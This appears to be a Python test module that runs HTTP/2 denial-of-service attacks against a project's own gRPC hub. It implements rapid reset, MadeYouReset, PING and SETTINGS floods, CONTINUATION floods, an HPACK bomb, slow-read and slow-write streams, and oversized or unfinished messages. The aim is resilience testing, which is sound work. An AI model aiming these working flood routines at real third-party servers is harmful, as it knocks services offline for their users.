"""Attacks with HTTP/2 frames: what RELIABILITY knows, and what gRPC servers have fallen to.

Each function is one attacker's whole work on one place, until its post's time is over. A connection that
the hub ends is opened again at once: to be cut costs an attacker no more than that.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from contextlib import ExitStack, suppress

from hpack import Encoder

from tests.campaign.attacks.wire import (
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Lost,
    Place,
    Post,
    Wire,
    frame,
    headers_of,
    message,
    settings,
)

QUOTA = "/candor.v1.HubService/GetQuota"
SUBMIT = "/candor.v1.HubService/Submit"
ATTACH = "/candor.v1.HubService/Attach"
PUT_SEGMENT = "/candor.v1.HubService/PutSegment"
DIRECTORY = "/candor.v1.HubService/GetDirectory"
ENROL = "/candor.v1.EnrolmentService/Enrol"
AT_ONCE = 100

Attack = Callable[[Post, Place], None]


def _again(attack: Attack) -> Attack:
    """Connect anew whenever the hub cuts the connection, until the time is over."""

    def repeated(post: Post, place: Place) -> None:
        while not post.over:
            with suppress(Lost):
                attack(post, place)

    repeated.__doc__ = attack.__doc__
    repeated.__name__ = attack.__name__
    return repeated


def _path(place: Place) -> str:
    return QUOTA if place.members else ENROL


# --- streams that come and go --------------------------------------------------------------------------


@_again
def rapid_reset(post: Post, place: Place) -> None:
    """Calls opened and reset in one breath."""
    with Wire(post, place) as wire:
        while True:
            flood = b"".join(
                wire.open_call(_path(place)) + frame(RST_STREAM, 0, wire.stream, CANCEL)
                for _ in range(AT_ONCE)
            )
            wire.say(flood)
            post.counts["resets"] += AT_ONCE
            wire.hear()


@_again
def reset_after_request(post: Post, place: Place) -> None:
    """Whole calls, reset a moment later, when the application has begun to work on them."""
    with Wire(post, place) as wire:
        while True:
            first = wire.stream + 2
            wire.say(b"".join(wire.open_call(_path(place), b"") for _ in range(16)))
            wire.listen(0.002)
            wire.say(
                b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in range(first, wire.stream + 1, 2))
            )
            post.counts["resets"] += 16


@_again
def trailing_reset(post: Post, place: Place) -> None:
    """Whole calls on which the hub is made to reset: a window update of zero (MadeYouReset)."""
    with Wire(post, place) as wire:
        while True:
            flood = b"".join(
                wire.open_call(_path(place), b"") + frame(WINDOW_UPDATE, 0, wire.stream, struct.pack(">I", 0))
                for _ in range(16)
            )
            wire.say(flood)
            post.counts["streams"] += 16
            wire.hear()


@_again
def many_streams(post: Post, place: Place) -> None:
    """Calls that are opened and left open, a thousand on each of eight connections."""
    with ExitStack() as stack:
        wires = []
        for _ in range(8):
            wire = stack.enter_context(Wire(post, place))
            wires.append(wire)
            for _ in range(10):
                wire.say(b"".join(wire.open_call(_path(place)) for _ in range(AT_ONCE)))
                wire.hear()
            post.counts["streams"] += 10 * AT_ONCE
        while True:
            for wire in wires:
                wire.listen(0.2)


# --- frames that cost the hub more than the sender -------------------------------------------------------


def _flood(post: Post, place: Place, octets: bytes, number: int, name: str) -> None:
    with Wire(post, place) as wire:
        wire.say(wire.open_call(_path(place)))
        while True:
            wire.say(octets)
            post.counts[name] += number
            wire.hear()


@_again
def pings(post: Post, place: Place) -> None:
    """PING as fast as they go."""
    _flood(post, place, frame(PING, 0, 0, bytes(8)) * AT_ONCE, AT_ONCE, "pings")


@_again
def unread_pings(post: Post, place: Place) -> None:
    """PING whose answers are never read: they queue at the hub."""
    with Wire(post, place, deaf=True) as wire:
        while True:
            wire.say(frame(PING, 0, 0, bytes(8)) * AT_ONCE)
            post.counts["pings"] += AT_ONCE


@_again
def setting_changes(post: Post, place: Place) -> None:
    """SETTINGS as fast as they go, each changing the size of every window."""
    both = settings(s4=1_000) + settings(s4=1 << 30)
    _flood(post, place, both * (AT_ONCE // 2), AT_ONCE, "settings")


@_again
def unread_settings(post: Post, place: Place) -> None:
    """SETTINGS whose acknowledgements are never read."""
    with Wire(post, place, deaf=True) as wire:
        while True:
            wire.say(frame(SETTINGS, 0, 0) * AT_ONCE)
            post.counts["settings"] += AT_ONCE


@_again
def empty_data(post: Post, place: Place) -> None:
    """DATA frames of nothing on an open call."""
    with Wire(post, place) as wire:
        wire.say(wire.open_call(SUBMIT if place.members else ENROL))
        flood = frame(DATA, 0, wire.stream) * AT_ONCE
        while True:
            wire.say(flood)
            post.counts["frames"] += AT_ONCE
            wire.hear()


@_again
def priorities(post: Post, place: Place) -> None:
    """PRIORITY frames that turn the tree of streams over and over."""
    flood = b"".join(
        frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 2 * ((number * 7) % 90) + 3, number % 256))
        for number in range(AT_ONCE)
    )
    _flood(post, place, flood, AT_ONCE, "priorities")


@_again
def window_updates(post: Post, place: Place) -> None:
    """WINDOW_UPDATE of one octet, on the connection and on closed streams."""
    one = struct.pack(">I", 1)
    flood = (frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 9_999, one)) * (AT_ONCE // 2)
    with Wire(post, place, settings(s4=1 << 20)) as wire:
        wire.say(wire.open_call(_path(place)))
        while True:
            wire.say(flood)
            post.counts["updates"] += AT_ONCE
            wire.hear()


# --- headers ---------------------------------------------------------------------------------------------


@_again
def continuations(post: Post, place: Place) -> None:
    """One HEADERS frame and CONTINUATION without an end; the hub's settings are not acknowledged."""
    with Wire(post, place, deaf=True) as wire:
        block = headers_of(_path(place), ("x-padding", "x" * 200))
        wire.say(frame(HEADERS, 0, wire.next_stream(), block))
        # Literal fields that are never indexed, cut anywhere.
        piece = b"\x10\x01a\x01b" * 200
        while True:
            wire.say(frame(CONTINUATION, 0, wire.stream, piece) * 16)
            post.counts["frames"] += 16


@_again
def empty_continuations(post: Post, place: Place) -> None:
    """One HEADERS frame and CONTINUATION of nothing, without an end."""
    with Wire(post, place, deaf=True) as wire:
        wire.say(frame(HEADERS, 0, wire.next_stream(), headers_of(_path(place))))
        while True:
            wire.say(frame(CONTINUATION, 0, wire.stream) * 1_000)
            post.counts["frames"] += 1_000


@_again
def large_metadata(post: Post, place: Place) -> None:
    """Calls with 15 kB and with 60 kB of headers."""
    with Wire(post, place) as wire:
        while True:
            for octets in (15_000, 60_000):
                block = headers_of(_path(place), *((f"x-{at}", "y" * 1_000) for at in range(octets // 1_000)))
                stream = wire.next_stream()
                pieces = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
                said = frame(HEADERS, END_HEADERS if len(pieces) == 1 else 0, stream, pieces[0])
                for number, piece in enumerate(pieces[1:], 2):
                    said += frame(CONTINUATION, END_HEADERS if number == len(pieces) else 0, stream, piece)
                wire.say(said + frame(DATA, 0x1, stream, message(b"")))
            post.counts["calls"] += 2
            wire.listen(0.01)


@_again
def header_bomb(post: Post, place: Place) -> None:
    """A large header in the table, named three thousand times by one octet each (HPACK bomb)."""
    with Wire(post, place) as wire:
        encoder = Encoder()
        fields = [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", _path(place)),
            (":authority", "hub"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("x-large", "z" * 3_800),
        ]
        wire.say(frame(HEADERS, END_HEADERS, wire.next_stream(), encoder.encode(fields)))
        named = encoder.encode(fields) + b"\xbe" * 3_000
        while True:
            wire.say(frame(HEADERS, END_HEADERS, wire.next_stream(), named))
            wire.say(frame(RST_STREAM, 0, wire.stream, CANCEL))
            post.counts["bombs"] += 1
            wire.listen(0.005)


# --- slow and never --------------------------------------------------------------------------------------


@_again
def never_reads(post: Post, place: Place) -> None:
    """Sixteen calls for large responses on each of four connections whose window is nothing, unread."""
    with ExitStack() as stack:
        for _ in range(4):
            wire = stack.enter_context(Wire(post, place, settings(s4=0)))
            wire.say(b"".join(wire.open_call(DIRECTORY if place.members else ENROL, b"") for _ in range(16)))
            post.counts["calls"] += 16
        post.pause(1e9)


@_again
def reads_slowly(post: Post, place: Place) -> None:
    """Sixteen calls for large responses, read one octet a second."""
    with Wire(post, place, settings(s4=1)) as wire:
        wire.say(b"".join(wire.open_call(DIRECTORY if place.members else ENROL, b"") for _ in range(16)))
        post.counts["calls"] += 16
        while True:
            wire.listen(1.0)
            one = struct.pack(">I", 1)
            wire.say(
                b"".join(
                    frame(WINDOW_UPDATE, 0, stream, one)
                    for stream in range(1, wire.stream + 1, 2)
                    if stream not in wire.ended
                )
            )


@_again
def writes_slowly(post: Post, place: Place) -> None:
    """Requests of one octet a second, sixteen on each of four connections."""
    with ExitStack() as stack:
        wires = []
        for _ in range(4):
            wire = stack.enter_context(Wire(post, place))
            wires.append(wire)
            wire.say(b"".join(wire.open_call(SUBMIT if place.members else ENROL) for _ in range(16)))
            post.counts["calls"] += 16
        octets = message(bytes(1_000))
        for at in range(len(octets)):
            for wire in wires:
                open_streams = [each for each in range(1, wire.stream + 1, 2) if each not in wire.ended]
                wire.say(b"".join(frame(DATA, 0, each, octets[at : at + 1]) for each in open_streams))
                wire.listen(0.0)
            post.pause(1.0)


# --- too much --------------------------------------------------------------------------------------------


@_again
def oversized_messages(post: Post, place: Place) -> None:
    """Messages that say that they have a gigabyte, and ones that have two megabytes."""
    with Wire(post, place) as wire:
        while True:
            for declared in (1 << 30, 2 << 20):
                wire.say(wire.open_call(SUBMIT if place.members else ENROL))
                said = frame(DATA, 0, wire.stream, b"\0" + struct.pack(">I", declared) + bytes(16_000))
                wire.say(said)
                post.counts["messages"] += 1
                wire.listen(0.005)


@_again
def unfinished_messages(post: Post, place: Place) -> None:
    """As many octets as windows take, of messages that never end, on sixteen calls of four connections."""
    with ExitStack() as stack:
        wires = []
        begun = b"\0" + struct.pack(">I", (1 << 20) - 8)
        for _ in range(4):
            wire = stack.enter_context(Wire(post, place))
            wires.append(wire)
            wire.say(b"".join(wire.open_call(PUT_SEGMENT if place.members else ENROL) for _ in range(16)))
            for stream in tuple(wire.windows):
                wire.say(frame(DATA, 0, stream, begun))
                wire.windows[stream] -= 5
                wire.window -= 5
        while True:
            for wire in wires:
                for stream in tuple(wire.windows):
                    some = min(wire.window, wire.windows.get(stream, 0), 16_384)
                    if some > 0:
                        wire.say(frame(DATA, 0, stream, bytes(some)))
                        wire.window -= some
                        wire.windows[stream] -= some
                        post.counts["octets"] += some
                wire.listen(0.01)


@_again
def ignores_windows(post: Post, place: Place) -> None:
    """Data far beyond every window."""
    with Wire(post, place) as wire:
        wire.say(wire.open_call(SUBMIT if place.members else ENROL))
        wire.say(frame(DATA, 0, wire.stream, b"\0" + struct.pack(">I", (1 << 20) - 8)))
        while True:
            wire.say(frame(DATA, 0, wire.stream, bytes(16_000)))
            post.counts["octets"] += 16_000
            wire.hear()


@_again
def nonsense(post: Post, place: Place) -> None:
    """Random octets behind a good beginning."""
    with Wire(post, place) as wire:
        wire.say(bytes((number * 197 + post.counts["connections"]) % 256 for number in range(4_096)))
        while True:
            wire.listen(0.5)
